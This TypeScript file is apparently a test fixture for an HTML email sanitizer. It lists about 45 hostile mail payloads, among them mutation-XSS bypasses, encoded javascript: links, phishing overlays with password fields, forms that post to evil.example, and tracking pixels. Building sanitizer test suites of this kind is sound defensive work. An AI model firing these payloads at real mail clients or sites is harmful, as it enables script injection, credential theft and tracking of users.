/** Mails that try to run, fetch, send, hide, or look like something that they are not. One for each way. */
export const hostileMails: Readonly<Record<string, string>> = {
  'a script': '<script>window.hacked = 1</script><p>x',
  'a script in capitals with blanks': '<ScRiPt\n>window.hacked = 1</sCrIpT  >',
  'a handler': '<img src=x onerror="window.hacked=1"><p onclick=window.hacked=1>x</p><body onload=window.hacked=1>',
  'a handler behind a slash': '<img/src="x"/onerror=window.hacked=1><div/onmouseover="window.hacked=1">x',
  'a handler in a broken tag': '<img src="x` `<script>window.hacked=1</script>"` `onerror=window.hacked=1>',
  'an SVG':
    '<svg onload=window.hacked=1><script>window.hacked=1</script><a xlink:href="javascript:window.hacked=1">x</a></svg>',
  'an SVG that animates':
    '<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s><set attributeName=href to=javascript:window.hacked=1></svg>',
  'MathML that changes its parser':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  'a form within a form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>',
  'a noscript that ends early': '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
  'a textarea that ends early': '<textarea><p title="</textarea><img src=x onerror=window.hacked=1>">',
  'a title that ends early': '<title><p title="</title><img src=x onerror=window.hacked=1>">',
  'a comment that ends early':
    '<!--><img src=x onerror=window.hacked=1>--><!--!><img src=x onerror=window.hacked=1>-->',
  'a conditional comment': '<!--[if gte IE 4]><script>window.hacked=1</script><![endif]-->',
  CDATA: '<![CDATA[<img src=x onerror=window.hacked=1>]]>',
  'a frame':
    '<iframe src="javascript:window.hacked=1"></iframe><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  'a frame that is never closed': '<iframe><p>x<img src=x onerror=window.hacked=1>',
  'an object':
    '<object data="javascript:window.hacked=1"></object><embed src="javascript:window.hacked=1"><applet code=x>',
  'links that run': [
    'javascript:window.hacked=1',
    'JaVaScRiPt:window.hacked=1',
    '&#106;avascript:window.hacked=1',
    '&#x6A;avascript&colon;window.hacked=1',
    'java&#9;script:window.hacked=1',
    'java&#10;script:window.hacked=1',
    '&#1;javascript:window.hacked=1',
    'vbscript:window.hacked=1',
    'data:text/html,<script>window.hacked=1</script>',
    'blob:https://x.example/1',
    'filesystem:https://x.example/1',
    'intent://x#Intent;end',
  ]
    .map((address) => `<a href="${address}">x</a><a xlink:href="${address}">y</a>`)
    .join(''),
  'links that seem to lead elsewhere':
    '<a href="https://bank.example@evil.example/">x</a><a href="//evil.example">y</a><a href="\\\\evil.example">z</a><a href="https:\\evil.example">w</a>',
  'a link that pings and downloads':
    '<a href="https://x.example" ping="https://evil.example" download="x.exe" target=_self rel=opener>x</a>',
  'a style sheet':
    '<style>@import url(https://evil.example/x.css); * { display: none } :host { position: fixed }</style>x',
  'a linked style sheet':
    '<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example">',
  'an overlay':
    '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Your session has ended. <input name=password></div>',
  'an overlay by other means':
    '<div style="margin:-2000px;padding:-1px;width:200vw;height:200vh;transform:scale(99);float:left">x</div>',
  'an overlay in escapes': '<div style="pos\\69tion:fixed;p\\6fsition:fixed;position/**/:fixed">x</div>',
  'a background':
    '<body background="https://evil.example/a.png"><td background="https://evil.example/b.png" style="background:url(https://evil.example/c.png) red">x</td>',
  'styles that fetch':
    '<p style="background-image:url(https://evil.example/1);list-style:url(https://evil.example/2);cursor:url(https://evil.example/3),auto;content:url(https://evil.example/4);border-image:url(https://evil.example/5);background:image-set(\'https://evil.example/6\' 1x)">x',
  'styles that run or reach out':
    '<p style="width:expression(window.hacked=1);behavior:url(#x);-moz-binding:url(https://evil.example);color:var(--_accent);background-color:env(x)">x',
  'a base': '<base href="https://evil.example/"><a href="login">x</a>',
  'a refresh': '<meta http-equiv=refresh content="0;url=https://evil.example"><meta http-equiv=set-cookie content=a=b>',
  'a form':
    '<form action="https://evil.example" method=post><input name=password><button formaction="https://evil.example">Sign in</button><select><option>x</select><textarea>y</textarea></form>',
  'images from everywhere':
    '<img src="http://evil.example/a.png"><img src="//evil.example/b.png"><img src="cid:1"><img src="file:///c:/x.png"><img src="data:image/svg+xml,<svg onload=window.hacked=1>"><img srcset="https://evil.example/c.png 1x"><picture><source srcset="https://evil.example/d.png"></picture><input type=image src="https://evil.example/e.png">',
  trackers:
    '<img src="https://evil.example/t.gif" width=1 height=1><img src="https://evil.example/u.gif" style="width:1px;height:1px"><img src="https://evil.example/v.gif" style="display:none">',
  media:
    '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" onerror=window.hacked=1></video><audio src=x onerror=window.hacked=1></audio><track src=x><bgsound src="https://evil.example">',
  'names that hide methods':
    '<img name=createElement><form name=body><a id=Helpdock></a><img id=getElementById><a id=location name=href>x</a></form>',
  'a slot, a template and a custom element':
    '<slot name=x></slot><template shadowrootmode=open><script>window.hacked=1</script></template><x-y onclick=window.hacked=1 is=z>x</x-y><helpdock-widget></helpdock-widget>',
  'what pops up by itself':
    '<dialog open>x</dialog><div popover id=a>x</div><button popovertarget=a>y</button><details open ontoggle=window.hacked=1><summary>z</details><marquee onstart=window.hacked=1>m</marquee><input autofocus onfocus=window.hacked=1>',
  'what can be edited or dragged': '<div contenteditable draggable=true tabindex=1 accesskey=x hidden inert>x</div>',
  'an isindex, a plaintext, a frameset':
    '<isindex action=javascript:window.hacked=1><frameset onload=window.hacked=1><frame src=javascript:window.hacked=1></frameset><plaintext><img src=x onerror=window.hacked=1>',
  'NUL and other controls':
    '<scr\0ipt>window.hacked=1</scr\0ipt><img\0 src=x onerror\0=window.hacked=1><a href="java\0script:window.hacked=1">x</a>',
  'a tag without an end': '<img src=x onerror=window.hacked=1 ',
  'quotes without an end': '<a title="x onclick=window.hacked=1><img src=x onerror=window.hacked=1>',
};
